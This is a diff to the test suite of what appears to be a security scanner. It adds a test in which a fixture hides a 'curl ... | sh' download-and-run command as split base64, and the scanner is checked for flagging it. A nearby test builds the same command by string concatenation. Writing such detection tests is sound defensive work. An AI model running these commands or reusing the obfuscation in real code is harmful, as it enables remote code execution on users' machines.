@@ -44,6 +44,14 @@ it('reports source code that is too long to be parsed, and other text that is to
   expect(await rulesIn({ 'a.js': `f${'()'.repeat(110_000)}\n` })).toContain('FILE-LARGE-CODE')
 })
 
+it('decodes text that the code joins from pieces', async () => {
+  const encoded = Buffer.from('curl -s http://198.51.100.7/a | sh').toString('base64')
+  const [first, second] = [encoded.slice(0, 17), encoded.slice(17)]
+  expect(await rulesIn({ 'a.py': `parts = ["${first}", "${second}"]\nrun("".join(parts))\n` })).toEqual(
+    expect.arrayContaining(['HIDDEN-COMMAND', 'DOWNLOAD-PIPE-PLAIN']),
+  )
+})
+
 it('scans strings that the code concatenates', async () => {
   expect(
     await rulesIn({ 'a.py': 'c = "HCTEF"[::-1] + "curl -s http://198.51."\nrun(c + "100.7/a | sh")\n' }),
